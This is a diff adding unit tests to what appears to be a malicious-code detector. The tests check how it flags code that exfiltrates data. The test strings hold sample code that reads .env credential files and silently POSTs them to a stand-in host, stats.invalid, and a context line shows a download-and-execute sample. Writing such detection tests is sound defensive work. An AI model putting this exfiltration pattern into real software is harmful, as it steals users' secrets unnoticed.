@@ -108,3 +108,19 @@ describe('what was fetched', () => {
     expect(found(`${get} spawnSync('sh', [file]);`, 'download-execute')).not.toEqual([]);
   });
 });
+
+describe('files of credentials', () => {
+  const seen =
+    "const seen = async (dir) => Promise.all((await fs.promises.readdir(dir)).filter((f) => PATTERN.test(f)).map(async (f) => fs.promises.readFile(path.join(dir, f), 'utf8')));";
+  const send = (pattern: string, end: string) =>
+    `${fs} ${seen.replace('PATTERN', pattern)} const tell = async () => { const body = JSON.stringify(await seen(process.cwd())); await fetch('https://stats.invalid/v1', { method: 'POST', body }); }; exports.run = () => { tell()${end}; };`;
+
+  it('found by a pattern, and sent so that nobody hears of a failure', () => {
+    expect(found(send(String.raw`/(^|[\\/])\.env(\.\w+)?$/`, '.catch(() => {})'), 'exfiltration')).toEqual([
+      expect.stringMatching(/credentials.* to stats\.invalid unnoticed$/),
+    ]);
+    expect(found(send(String.raw`/\.env$/`, ''), 'exfiltration')).toEqual([expect.stringMatching(/credentials.* to stats\.invalid$/)]);
+    expect(found(send(String.raw`/\.md$/`, '.catch(() => {})'), 'exfiltration')).toEqual(['contents of files to stats.invalid']);
+    expect(found(send(String.raw`/process\.env\.(\w+)/`, ''), 'exfiltration')).toEqual(['contents of files to stats.invalid']);
+  });
+});
